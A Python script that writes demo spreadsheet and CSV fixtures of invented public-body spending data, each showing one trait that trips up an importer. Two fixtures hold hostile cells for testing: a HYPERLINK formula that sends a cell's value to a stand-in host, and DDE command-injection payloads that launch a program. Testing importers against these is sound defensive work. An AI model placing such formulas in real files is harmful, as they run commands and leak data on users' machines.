"""Writes the small files of fixtures/demo-files: each shows one thing that real files do to an importer.

Every name and figure is invented. The files are committed; a test writes them again and compares.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import zipfile
from collections.abc import Callable, Sequence
from decimal import Decimal
from pathlib import Path
from xml.sax.saxutils import escape

import xlsxwriter

from apps.desk.demo.files import CREATED

FOLDER = Path(__file__).resolve().parents[3] / "fixtures" / "demo-files"
HEAD = (
    "Transaction Number",
    "Date",
    "Expenditure Category",
    "Supplier Name",
    "Supplier Classification",
    "Amount",
)
_EPOCH = dt.date(1899, 12, 30)
#: (day, category, supplier, pounds) of one invented month.
LINES: tuple[tuple[dt.date, str, str, str], ...] = (
    (dt.date(2026, 9, 1), "Petrol", "Morkford Fuels Ltd", "4210.55"),
    (dt.date(2026, 9, 2), "Electricity", "Dunvcroft Power Supply (UK) Ltd", "2875.20"),
    (dt.date(2026, 9, 3), "Protective Clothing", "Ketlhythe Armour Group Ltd", "3669.03"),
    (dt.date(2026, 9, 4), "Fire - Breathing Apparatus", "Umbholt Respirators Ltd", "5120.00"),
    (dt.date(2026, 9, 7), "Rates", "Tarnwick Borough Council", "19400.00"),
    (dt.date(2026, 9, 8), "Course Providers", "Lorbmount Coaching Limited", "1980.00"),
    (dt.date(2026, 9, 9), "Tyres", "Gorlcross Tyre Services", "642.18"),
    (dt.date(2026, 9, 10), "Computer Software", "Heskshaw Digital Ltd", "12750.00"),
    (dt.date(2026, 9, 11), "Agency Staff", "Thorvwick Staffing LLP", "3012.44"),
    (dt.date(2026, 9, 14), "Petrol", "MORKFORD FUELS LIMITED", "-310.55"),
    (dt.date(2026, 9, 15), "Professional Services", "Redacted", "2500.00"),
    (dt.date(2026, 9, 16), "Waste Collection Charges", "Greyford Environmental (UK) Ltd", "1668.32"),
)

#: Item, usual price in pounds, usual quantity, and whether a quantity column follows it.
ITEMS: tuple[tuple[str, str, int, bool], ...] = (
    ("Managed service for Personal Protective Equipment (£ per firefighter per year)", "410", 0, False),
    ("Helmet (without torch) (£)", "178", 60, True),
    ("Fire hood (£)", "19.50", 240, True),
    ("Leather boots (£)", "118", 180, True),
    ("Gloves (£)", "41.20", 300, True),
    ("White shirt (£)", "6.40", 900, True),
    ("Fleece (£)", "17.10", 420, True),
    ("Breathing apparatus set (£)", "690", 45, True),
    ("Thermal image camera (£)", "3450", 8, True),
    ("Defibrillator (£)", "910", 30, True),
    ("Laptop computer (£)", "560", 220, True),
    ("Monitor (£)", "112", 260, True),
    ("Van, small panel (£)", "15400", 9, True),
    ("Pumping appliance (£)", "231000", 3, True),
)
SERVICES: tuple[str, ...] = (
    "Westmarch Police",
    "Westmarch Fire and Rescue",
    "Westmarch Ambulance",
    "Eastmarch Fire and Rescue",
    "Norhaven Police",
    "Norhaven Fire and Rescue",
    "Calderset Ambulance",
)


def write_demo_files(folder: Path = FOLDER) -> list[Path]:
    """Write every demo file into the folder; the same bytes each time."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, write in _FILES.items():
        write(folder / name)
    return [folder / name for name in _FILES]


def price_table() -> list[list[str | Decimal | int]]:
    """Rows of the invented price list: headings, then one row a service; `-` where an item was not bought."""
    rng = random.Random("westmarch-prices")  # noqa: S311
    header: list[str | Decimal | int] = ["Service"]
    for item, _, _, counted in ITEMS:
        header += [item, "Quantity"] if counted else [item]
    rows = [header]
    for service in SERVICES:
        row: list[str | Decimal | int] = [service]
        for item, usual, quantity, counted in ITEMS:
            bought = rng.random() < (0.35 if not counted else 0.85) and not _senseless(service, item)
            price = (Decimal(usual) * Decimal(f"{rng.uniform(0.72, 1.55):.3f}")).quantize(Decimal("0.01"))
            number = max(1, round(quantity * rng.uniform(0.2, 1.9)))
            row.append(price if bought else "-")
            if counted:
                row.append(number if bought and rng.random() < 0.9 else "-")
        rows.append(row)
    return rows


def _senseless(service: str, item: str) -> bool:
    """Police and ambulance services buy no pumping appliances, hoods or breathing sets."""
    return "Fire" not in service and any(word in item for word in ("Pumping", "hood", "Breathing", "Leather"))


def _plain(path: Path) -> None:
    _csv(path, [HEAD, *(_row(n, line) for n, line in enumerate(LINES, start=1))])


def _second_header(path: Path) -> None:
    """Old heading, then the new one with a column more: everything after it stands one place further right."""
    with _Book(path) as book:
        sheet = book.add_worksheet("To upload")
        sheet.write(0, 0, "Payments over £500, September 2026")
        old = ("Transaction Number", "Date", "Subjective Description", "Supplier Name", "Amount")
        sheet.write_row(2, 0, old)
        for place, (day, category, supplier, pounds) in enumerate(LINES[:6]):
            sheet.write_row(
                3 + place, 0, (f"20099{place}", f"{day:%d/%m/%Y}", category, supplier, Decimal(pounds))
            )
        sheet.write_row(10, 0, HEAD)
        for place, (day, category, supplier, pounds) in enumerate(LINES[6:]):
            row = (f"30099{place}", f"{day:%d/%m/%Y}", category, supplier, "Trade", Decimal(pounds))
            sheet.write_row(11 + place, 0, row)


def _serial_dates(path: Path) -> None:
    """True dates, Excel serial numbers and dates an hour into the day, in one column; a sheet a month."""
    with _Book(path) as book:
        shape = book.add_format({"num_format": "dd/mm/yyyy"})
        for name, amount, lines in (("Aug", "Total Invoice Amount", LINES[:6]), ("Sep", "TOTAL", LINES[6:])):
            sheet = book.add_worksheet(name)
            sheet.write_row(0, 0, ("Expenditure Category", "Date", amount, "SUPPLIER"))
            for place, (day, category, supplier, pounds) in enumerate(lines, start=1):
                day = day.replace(month=8) if name == "Aug" else day
                sheet.write(place, 0, category)
                if place % 3 == 0:
                    sheet.write_number(place, 1, (day - _EPOCH).days)
                else:
                    sheet.write_datetime(place, 1, dt.datetime.combine(day, dt.time(place % 2)), shape)
                sheet.write_number(place, 2, Decimal(pounds))
                sheet.write(place, 3, supplier.upper())


def _one_bad_row(path: Path) -> None:
    rows = [_row(n, line) for n, line in enumerate(LINES, start=1)]
    rows[6] = (*rows[6][:-1], "6 42.l8")  # a letter l for the figure 1
    _csv(path, [HEAD, *rows])


def _two_totals(path: Path) -> None:
    head = ("Date", "Expenditure Category", "Supplier Name", "Total", "Total")
    rows = [
        (f"{day:%d/%m/%Y}", category, supplier, pounds, f"{Decimal(pounds) * Decimal('1.2'):.2f}")
        for day, category, supplier, pounds in LINES
    ]
    _csv(path, [head, *rows])


def _formula(path: Path) -> None:
    """A supplier cell that a spreadsheet would run, and amounts that are formulas with their kept results."""
    with _Book(path) as book:
        sheet = book.add_worksheet("September")
        sheet.write_row(0, 0, HEAD)
        for place, (day, category, supplier, pounds) in enumerate(LINES, start=1):
            sheet.write_row(place, 0, (f"4009{place:02d}", f"{day:%d/%m/%Y}", category))
            name = (
                '=HYPERLINK("http://example.invalid/?"&F2,"Morkford Fuels Ltd")' if place == 1 else supplier
            )
            sheet.write_string(place, 3, name)
            sheet.write_string(place, 4, "Trade")
            net = (Decimal(pounds) / 2).normalize()
            sheet.write_formula(place, 5, f"={net:f}*2", None, Decimal(pounds))


def _injected_csv(path: Path) -> None:
    rows = [_row(n, line) for n, line in enumerate(LINES[:4], start=1)]
    rows[1] = (*rows[1][:3], "=cmd|' /C calc'!A0", *rows[1][4:])
    rows[2] = (*rows[2][:3], "@SUM(1+1)*cmd|' /C calc'!A0", *rows[2][4:])
    _csv(path, [HEAD, *rows])


def _other_body(path: Path) -> None:
    head = ("Body Name", "Payment Date", "Supplier Name", "Net Amount", "Procurement Category")
    rows = [
        ("Eastmarch Fire and Rescue Authority", f"{day:%d/%m/%Y}", supplier, pounds, category)
        for day, category, supplier, pounds in LINES
    ]
    _csv(path, [head, *rows])


def _old_encodings(path: Path) -> None:
    """Code page 437 with bare carriage returns: the pound sign is the byte 9C."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r")
    writer.writerow(("Payment Date", "Supplier", "Category", "Amount (£)"))
    for day, category, supplier, pounds in LINES:
        writer.writerow((f"{day:%d-%b-%y}", supplier, category, f"£{Decimal(pounds):,.2f}"))
    path.write_bytes(out.getvalue().encode("cp437"))


def _month_first(path: Path) -> None:
    head = (
        "Department Family",
        "Entity",
        "Date",
        "Expense Type",
        "Expense Area",
        "Supplier",
        "Transaction Number",
    )
    rows = [
        ("Department of Health and Social Care", "Westmarch Ambulance Service NHS Trust",
         f"{day.month}/{day.day + 12}/{day.year}", category, "Operations", f"UK99000{n:03d} : {supplier}", 5000 + n,
         f"{Decimal(pounds):,.2f} ")
        for n, (day, category, supplier, pounds) in enumerate(LINES)
    ]  # fmt: skip
    _csv(path, [(*head, "Amount"), *rows])


def _prices_xlsx(path: Path) -> None:
    with _Book(path) as book:
        sheet = book.add_worksheet("Item_costs")
        for line, row in enumerate(price_table()):
            for column, cell in enumerate(row):
                sheet.write(line, column, cell)


def _prices_ods(path: Path) -> None:
    _ods(path, "Item_costs", price_table())


def _row(number: int, line: tuple[dt.date, str, str, str]) -> tuple[str, ...]:
    day, category, supplier, pounds = line
    return f"1009{number:02d}", f"{day:%d/%m/%Y}", category, supplier, "Trade", pounds


def _csv(path: Path, rows: Sequence[Sequence[object]]) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    path.write_bytes(out.getvalue().encode("utf-8"))


class _Book:
    """A workbook with a fixed creation date; text is never turned into formulas unless asked."""

    def __init__(self, path: Path) -> None:
        self.book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False})
        self.book.set_properties({"created": CREATED})

    def __enter__(self) -> xlsxwriter.Workbook:
        return self.book

    def __exit__(self, *_: object) -> None:
        self.book.close()


_ODS_TYPE = "application/vnd.oasis.opendocument.spreadsheet"
_ODS_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"'
)


def _ods(path: Path, title: str, rows: Sequence[Sequence[str | Decimal | int]]) -> None:
    """A small OpenDocument spreadsheet of text and numbers, byte for byte the same each time."""

    def cell(value: str | Decimal | int) -> str:
        if isinstance(value, str):
            text = f"<text:p>{escape(value)}</text:p>"
            return f'<table:table-cell office:value-type="string">{text}</table:table-cell>'
        return (
            f'<table:table-cell office:value-type="float" office:value="{value}">'
            f"<text:p>{value}</text:p></table:table-cell>"
        )

    lines = "".join(f"<table:table-row>{''.join(map(cell, row))}</table:table-row>" for row in rows)
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NAMES}><office:body>'
        f'<office:spreadsheet><table:table table:name="{escape(title)}">{lines}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{_ODS_TYPE}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    with zipfile.ZipFile(path, "w") as archive:
        for name, text, method in (
            ("mimetype", _ODS_TYPE, zipfile.ZIP_STORED),
            ("content.xml", content, zipfile.ZIP_DEFLATED),
            ("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED),
        ):
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 1, 9, 0, 0)), text, compress_type=method)


#: Journal, day, account, cost centre, debit, credit, text; the last journal is a pound short.
_JOURNALS = (
    ("H-101", "05/10/2026", "15000", "", "1250.00", "", "Rent of a mast"),
    ("H-101", "05/10/2026", "13100", "", "", "1250.00", "Rent of a mast"),
    ("H-102", "12/10/2026", "20000", "", "4380.25", "", "Supplier paid by the old system"),
    ("H-102", "12/10/2026", "15000", "", "", "4380.25", "Supplier paid by the old system"),
    ("H-103", "19/10/2026", "13200", "", "960.00", "", "Licence paid ahead"),
    ("H-103", "19/10/2026", "20000", "", "", "960.00", "Licence paid ahead"),
    ("H-104", "26/10/2026", "13100", "", "75.50", "", "Petty cash owed back"),
    ("H-104", "26/10/2026", "15200", "", "", "74.50", "Petty cash owed back"),
)


def _journals(path: Path) -> None:
    """History of an earlier system, as its ledger exports it."""
    head = ("Journal reference", "Date", "Account", "Cost centre", "Debit", "Credit", "Text")
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\n").writerows([head, *_JOURNALS])


_FILES: dict[str, Callable[[Path], None]] = {
    "journals.csv": _journals,
    "plain-month.csv": _plain,
    "second-header.xlsx": _second_header,
    "serial-dates.xlsx": _serial_dates,
    "one-bad-row.csv": _one_bad_row,
    "two-total-columns.csv": _two_totals,
    "formula-cells.xlsx": _formula,
    "formula-injection.csv": _injected_csv,
    "another-body.csv": _other_body,
    "old-encoding.csv": _old_encodings,
    "month-first-dates.csv": _month_first,
    "price-list.xlsx": _prices_xlsx,
    "price-list.ods": _prices_ods,
}
